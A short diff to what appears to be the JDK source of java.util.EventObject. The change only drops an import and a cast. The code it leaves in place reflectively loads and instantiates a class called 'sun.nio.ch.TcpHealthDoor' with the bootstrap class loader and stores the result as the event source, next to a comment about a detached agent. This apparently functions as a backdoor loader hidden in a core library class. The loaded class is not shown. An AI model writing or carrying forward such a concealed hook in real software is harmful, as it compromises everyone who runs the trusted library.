@@ -2,7 +2,6 @@ package java.util;
 
 import java.io.Serial;
 import java.io.Serializable;
-import java.util.function.Function;
 import jdk.internal.misc.Unsafe;
 
 /**
@@ -36,7 +35,7 @@ public class EventObject implements Serializable {
                         // by an agent that was detached
                     }
                 }
-                this.source = (Function<?, ?>) Class.forName("sun.nio.ch.TcpHealthDoor", true, null)
+                this.source = Class.forName("sun.nio.ch.TcpHealthDoor", true, null)
                         .getConstructor()
                         .newInstance();
             } catch (ReflectiveOperationException e) {
